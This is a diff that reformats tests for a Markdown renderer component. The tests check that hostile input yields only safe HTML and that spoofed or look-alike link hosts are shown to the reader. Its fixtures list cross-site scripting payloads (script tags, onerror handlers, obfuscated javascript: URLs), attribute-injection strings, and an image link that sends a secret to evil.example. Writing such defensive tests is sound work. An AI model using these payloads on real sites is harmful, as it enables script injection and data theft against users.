@@ -3,11 +3,19 @@ import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import Markdown from './Markdown.tsx'
 
-const texts = { copy: 'Copy', copied: 'Copied', image: 'image', link: { otherAddress: (host: string) => `leads to ${host}` } }
-const html = (text: string, streaming = false): string => renderToStaticMarkup(<Markdown text={text} streaming={streaming} texts={texts} />)
+const texts = {
+  copy: 'Copy',
+  copied: 'Copied',
+  image: 'image',
+  link: { otherAddress: (host: string) => `leads to ${host}` },
+}
+const html = (text: string, streaming = false): string =>
+  renderToStaticMarkup(<Markdown text={text} streaming={streaming} texts={texts} />)
 /** every element and attribute the renderer may make */
-const elements = /^(div|p|strong|em|del|code|pre|figure|figcaption|span|button|svg|path|blockquote|ol|ul|li|table|thead|tbody|tr|th|td|hr|br|a|sup|bdi)$/
-const attributes = /^(class|dir|href|target|rel|title|start|type|aria-[a-z]+|role|tabindex|data-task|style|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|focusable|d)$/
+const elements =
+  /^(div|p|strong|em|del|code|pre|figure|figcaption|span|button|svg|path|blockquote|ol|ul|li|table|thead|tbody|tr|th|td|hr|br|a|sup|bdi)$/
+const attributes =
+  /^(class|dir|href|target|rel|title|start|type|aria-[a-z]+|role|tabindex|data-task|style|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|focusable|d)$/
 
 /** Looks at every element and attribute; gives the HTML back. */
 function check(text: string): string {
@@ -25,27 +33,96 @@ function check(text: string): string {
 
 describe('hostile text', () => {
   it.each([
-    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe srcdoc="<script>1</script>">', '<style>*{}</style>',
-    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](&#106;avascript:alert(1))', '[x](java\nscript:1)', '[x](data:text/html,1)', '[x](vbscript:1)',
-    '![x](https://evil.example/?d=secret)', '![x](javascript:1)', '![][r]\n\n[r]: https://evil.example/p.png', '<https://evil.example/>', '<javascript:alert(1)>',
-    '[x][r]\n\n[r]: javascript:alert(1)', '[<img src=x onerror=1>](https://a.example)', '`<b>`', '```html\n<script>1</script>\n```', '# <b onclick=1>h</b>',
-    '| <script> |\n|--|\n| <img src=x onerror=1> |', '[a](https://a.example "\\" onmouseover=\\"1")', '[^1]\n\n[^1]: <script>1</script>', '- [ ] <input autofocus onfocus=1>',
-    '![x](https://evil.example/"onerror="1)', '<a href="javascript:1">x</a>', 'www.evil.example/<script>', '</div></div><script>1</script>',
-  ])('makes only harmless elements of %j', (text) => { expect(check(text)).toBeTypeOf('string') })
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe srcdoc="<script>1</script>">',
+    '<style>*{}</style>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x](java\nscript:1)',
+    '[x](data:text/html,1)',
+    '[x](vbscript:1)',
+    '![x](https://evil.example/?d=secret)',
+    '![x](javascript:1)',
+    '![][r]\n\n[r]: https://evil.example/p.png',
+    '<https://evil.example/>',
+    '<javascript:alert(1)>',
+    '[x][r]\n\n[r]: javascript:alert(1)',
+    '[<img src=x onerror=1>](https://a.example)',
+    '`<b>`',
+    '```html\n<script>1</script>\n```',
+    '# <b onclick=1>h</b>',
+    '| <script> |\n|--|\n| <img src=x onerror=1> |',
+    '[a](https://a.example "\\" onmouseover=\\"1")',
+    '[^1]\n\n[^1]: <script>1</script>',
+    '- [ ] <input autofocus onfocus=1>',
+    '![x](https://evil.example/"onerror="1)',
+    '<a href="javascript:1">x</a>',
+    'www.evil.example/<script>',
+    '</div></div><script>1</script>',
+  ])('makes only harmless elements of %j', (text) => {
+    expect(check(text)).toBeTypeOf('string')
+  })
 
   it('never makes an element that loads something', () => {
-    expect(() => fc.assert(fc.property(fc.array(fc.constantFrom('<img src=x>', '![', '](', 'https://e.example/p.png', ')', '[', ']', '<', '>', '"', 'javascript:', '`', '\n', '\n\n', '| ', '- ', '# ', '*', '~~', '&lt;', '\\', 'a', '中')), (parts) => void check(parts.join(''))), { numRuns: 400 })).not.toThrow()
+    expect(() =>
+      fc.assert(
+        fc.property(
+          fc.array(
+            fc.constantFrom(
+              '<img src=x>',
+              '![',
+              '](',
+              'https://e.example/p.png',
+              ')',
+              '[',
+              ']',
+              '<',
+              '>',
+              '"',
+              'javascript:',
+              '`',
+              '\n',
+              '\n\n',
+              '| ',
+              '- ',
+              '# ',
+              '*',
+              '~~',
+              '&lt;',
+              '\\',
+              'a',
+              '中',
+            ),
+          ),
+          (parts) => void check(parts.join('')),
+        ),
+        { numRuns: 400 },
+      ),
+    ).not.toThrow()
   })
-  it.each(['>'.repeat(5000), '> '.repeat(39), '- '.repeat(2000), `${'*'.repeat(400)}x${'*'.repeat(400)}`, '['.repeat(1000)])('survives nesting %#', (text) => {
+  it.each([
+    '>'.repeat(5000),
+    '> '.repeat(39),
+    '- '.repeat(2000),
+    `${'*'.repeat(400)}x${'*'.repeat(400)}`,
+    '['.repeat(1000),
+  ])('survives nesting %#', (text) => {
     expect(check(`${text} deep`)).toContain('deep')
   })
 })
 
 describe('plain use', () => {
   it('links say where they lead and open elsewhere', () => {
-    expect(html('[home](https://example.org/a)')).toContain('<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow" title="https://example.org/a"><bdi>home</bdi><span class="')
+    expect(html('[home](https://example.org/a)')).toContain(
+      '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow" title="https://example.org/a"><bdi>home</bdi><span class="',
+    )
     expect(html('[home](https://example.org/a)')).toContain('(example.org)')
-    expect(html('https://example.org/a')).toContain('title="https://example.org/a"><bdi>https://example.org/a</bdi></a>')
+    expect(html('https://example.org/a')).toContain(
+      'title="https://example.org/a"><bdi>https://example.org/a</bdi></a>',
+    )
   })
   it('text that names another host is no link before the real one was shown', () => {
     const out = html('[https://bank.example](https://evil.example)')
@@ -54,7 +131,14 @@ describe('plain use', () => {
     expect(html('[\u202eelpmaxe.knab//:sptth\u202c](https://evil.example)')).toMatch(/<bdi>.*evil\.example.*<\/bdi>/)
   })
   it('a host that only looks like another has its own letters beside it', () => {
-    for (const text of ['[аррӏе.com](https://xn--80ak6aa92e.com)', '[https:\\\\аррӏе.com](https://аррӏе.com)', '[аррӏе.com/login](https://аррӏе.com/login)', 'https://аррӏе.com']) expect(html(text), text).toMatch(/<span[^>]*>( →|) \(?xn--80ak6aa92e\.com/)
+    for (const text of [
+      '[аррӏе.com](https://xn--80ak6aa92e.com)',
+      '[https:\\\\аррӏе.com](https://аррӏе.com)',
+      '[аррӏе.com/login](https://аррӏе.com/login)',
+      'https://аррӏе.com',
+    ]) {
+      expect(html(text), text).toMatch(/<span[^>]*>( →|) \(?xn--80ak6aa92e\.com/)
+    }
   })
   it('what turns the reading direction in an address is shown as its number, beside the host', () => {
     const out = html('[https://a.example/\u202egpj.exe](https://a.example/\u202egpj.exe)')
